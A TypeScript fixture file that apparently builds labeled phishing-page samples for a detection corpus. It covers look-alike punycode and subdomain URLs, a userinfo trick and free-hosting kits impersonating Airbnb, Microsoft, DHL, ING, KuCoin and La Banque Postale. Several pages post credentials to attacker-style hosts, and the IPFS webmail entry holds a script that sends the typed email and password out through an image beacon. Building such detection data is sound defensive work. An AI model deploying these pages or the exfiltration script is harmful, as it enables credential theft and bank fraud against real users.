import { type Entry } from '../entry.js';
import { baseCss, doc, svgLogo } from '../parts/d-parts.js';

/** Look-alike hosts (punycode homoglyphs, brand in a subdomain, typos), the brand@host userinfo trick, and kits on free hosting (pages.dev, web.app, netlify.app, github.io, r2.dev, workers.dev, IPFS gateways, site builders). Written for corpus/d. */

const login = (title: string, logo: string, color: string, note: string, action: string, extra = ''): string =>
  doc({
    title,
    css: baseCss(color) + `body{background:#f5f6f8}.l{max-width:420px;margin:60px auto}`,
    body: `<div class="l card"><div style="text-align:center">${logo}</div><h1 style="font-size:22px;text-align:center">${title}</h1><p class="muted">${note}</p><form method="post" action="${action}"><div class="form-group"><label>Email</label><input name="email" type="email" autocomplete="username"></div><div class="form-group"><label>Password</label><input name="password" type="password" autocomplete="current-password"></div>${extra}<button class="btn btn-block">Log in</button></form></div>`,
  });

export const entries: Entry[] = [

{
  id: 'd-look-punycode-airbnb-host',
  label: 'phishing',
  kind: 'lookalike-punycode',
  url: 'https://xn--arbnb-host-k8a.com/hosting/payouts/verify',
  body: login('Confirm your payout method', '<img src="/static/airbnb-belo.svg" alt="Airbnb" height="32">', '#ff385c', 'Your upcoming payout of €1,840.00 is on hold. Confirm your account and payout details.', '/hosting/payouts/submit', '<div class="form-group"><label>IBAN</label><input name="iban"></div>'),
},

{
  id: 'd-look-brand-subdomain-microsoft',
  label: 'phishing',
  kind: 'lookalike-subdomain',
  url: 'https://login.microsoftonline.com.oauth2-session.auth-token-refresh.com/common/oauth2/v2.0/authorize',
  body: login('Sign in', '<img src="https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo.svg" alt="Microsoft" width="108">', '#0067b8', 'Your session token has expired. Sign in again to continue to SharePoint.', 'https://login.microsoftonline.com.oauth2-session.auth-token-refresh.com/common/login'),
},

{
  id: 'd-look-userinfo-dhl',
  label: 'phishing',
  kind: 'userinfo-trick',
  url: 'https://dhl-track.shipmnt-hold.info/dhl/track/index.php',
  submittedUrl: 'https://www.dhl.com+tracking+id+JD014600006281@dhl-track.shipmnt-hold.info/dhl/track/index.php',
  body: doc({
    title: 'DHL Express - Track Shipment',
    css: baseCss('#d40511') + `body{background:#ffcc00}.w{max-width:520px;margin:40px auto}`,
    body: `<div class="w card"><img src="img/dhl-logo.svg" alt="DHL" height="28"><h1 style="font-size:22px">Shipment JD014600006281 on hold</h1><p>Import duties of €3.20 are due. Log in with your email to receive the invoice and release your shipment.</p><form method="post" action="/dhl/track/next.php"><div class="form-group"><label>Email</label><input name="email"></div><div class="form-group"><label>Email password</label><input name="pass" type="password"></div><button class="btn btn-block">Track &amp; pay</button></form></div>`,
  }),
},

{
  id: 'd-free-pages-dev-o365',
  label: 'phishing',
  kind: 'freehost-kit',
  url: 'https://secure-doc-preview-4k2.pages.dev/',
  body: login('Sign in to view shared file', '<img src="https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo.svg" alt="Microsoft" width="108">', '#0067b8', 'Purchase_Order_77120.xlsx has been shared with you. Verify your email to open it.', 'https://po-relay.workers-api-hub.com/o365'),
},

{
  id: 'd-free-netlify-ing-be',
  label: 'phishing',
  kind: 'freehost-kit',
  url: 'https://ing-be-itsme-verificatie.netlify.app/nl/login',
  body: doc({
    title: "ING België – Aanmelden met itsme",
    lang: 'nl',
    css: baseCss('#ff6200') + `.w{max-width:440px;margin:50px auto}`,
    body: `<div class="w card"><p style="color:#ff6200;font-weight:700;font-size:26px">ING</p><h1 style="font-size:20px">Uw itsme®-koppeling verloopt vandaag</h1><p>Bevestig uw gegevens om uw Home'Bank-toegang te behouden.</p><form method="post" action="https://formspree.io/f/xqkvbzpa"><div class="form-group"><label>Kaartnummer</label><input name="kaart"></div><div class="form-group"><label>Rijksregisternummer</label><input name="rrn"></div><div class="form-group"><label>GSM-nummer</label><input name="gsm"></div><div class="form-group"><label>Respons van uw kaartlezer</label><input name="respons"></div><button class="btn btn-block">Bevestigen</button></form></div>`,
  }),
},

{
  id: 'd-free-ipfs-gateway-webmail',
  label: 'phishing',
  kind: 'freehost-ipfs',
  url: 'https://bafybeig6xv5nwphfmvcnektpnojts33jqcuam7bmye2pb54adnrtccjlsu.ipfs.dweb-gateway.link/index.html',
  body: doc({
    title: 'Mail Server – Password Expiry',
    css: baseCss('#444') + `.w{max-width:420px;margin:60px auto}`,
    body: `<div class="w card"><h1 style="font-size:20px">Password expires today</h1><p>Your mailbox password will expire in 0 days. Keep your current password to avoid losing access to your email.</p><form id="x"><div class="form-group"><label>Email</label><input id="e"></div><div class="form-group"><label>Current password</label><input id="p" type="password"></div><button class="btn btn-block">Keep same password</button></form></div>
<script>document.getElementById('x').onsubmit=function(ev){ev.preventDefault();var i=new Image();i.src='https://mx-keepalive.services-report.com/k.gif?e='+encodeURIComponent(document.getElementById('e').value)+'&p='+encodeURIComponent(document.getElementById('p').value);setTimeout(function(){document.body.innerHTML='<h2 style="text-align:center;margin-top:20vh">Password retained successfully ✔</h2>'},700)};</script>`,
  }),
},

{
  id: 'd-free-workers-dev-kucoin',
  label: 'phishing',
  kind: 'freehost-kit',
  url: 'https://kucoin-verify.support-team-31.workers.dev/ucenter/signin',
  body: login('KuCoin — Log in', svgLogo('KUCOIN', '#23af91'), '#23af91', 'Complete the security check to unlock withdrawals.', '/ucenter/signin/api', '<div class="form-group"><label>Trading password</label><input name="tp" type="password"></div><div class="form-group"><label>Email verification code</label><input name="ec"></div>'),
},

{
  id: 'd-free-sitebuilder-la-banque-postale',
  label: 'phishing',
  kind: 'freehost-kit',
  url: 'https://labanquepostale-certicode.weebly-sites.com/',
  body: doc({
    title: 'La Banque Postale – Certicode Plus',
    lang: 'fr',
    css: baseCss('#003da5') + `.w{max-width:460px;margin:40px auto}.wsite-footer{font-size:11px;color:#999;text-align:center}`,
    body: `<div class="w card"><img src="uploads/1/4/8/2/148201/lbp-logo.png" alt="La Banque Postale" height="40"><h1 style="font-size:20px">Activation Certicode Plus obligatoire</h1><p>Votre Certicode Plus doit être réactivé avant le 02/12 pour continuer à valider vos opérations.</p><form method="post" action="/ajax/apps/formSubmitAjax.php"><div class="form-group"><label>Identifiant</label><input name="ident"></div><div class="form-group"><label>Mot de passe (6 chiffres)</label><input name="mdp" type="password"></div><div class="form-group"><label>Date de naissance</label><input name="ddn"></div><div class="form-group"><label>Numéro de téléphone</label><input name="tel"></div><button class="btn btn-block">Activer</button></form></div><div class="wsite-footer">Powered by Weebly-Sites · Create your own free website</div>`,
  }),
},

];
